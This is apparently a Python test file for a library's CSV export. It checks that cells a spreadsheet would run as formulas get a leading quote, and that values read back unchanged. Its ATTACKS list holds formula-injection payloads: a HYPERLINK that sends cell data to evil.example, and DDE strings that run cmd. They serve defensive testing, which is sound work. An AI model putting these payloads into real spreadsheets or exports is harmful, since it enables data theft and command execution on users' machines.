"""The one CSV writer: cells a spreadsheet would run as formulas are neutralised (OWASP), and
reading them back gives every value exactly as it was."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from library.formats.spreadsheet import csv_bytes, neutralise, restore

ATTACKS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


def test_every_formula_start_is_neutralised_with_a_quote():
    for value in ATTACKS:
        assert neutralise(value) == "'" + value
    for value in ("Guide de la médiation", "2013", "", "'", "Re: =x", " =1+1"):
        assert neutralise(value) == value


def test_a_value_already_starting_with_quotes_before_a_formula_stays_unambiguous():
    assert neutralise("'=1+1") == "''=1+1"
    assert restore("''=1+1") == "'=1+1"
    assert restore("'texte") == "'texte"  # a quote before ordinary text is the value's own


@given(st.text())
def test_restore_gives_back_what_neutralise_was_given(value):
    assert restore(neutralise(value)) == value


def test_the_file_holds_no_cell_a_spreadsheet_would_run():
    data = csv_bytes(["titre", "auteurs"], [[v, v] for v in ATTACKS])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == ["titre", "auteurs"]
    for cells, value in zip(rows[1:], ATTACKS, strict=True):
        assert cells == ["'" + value, "'" + value]
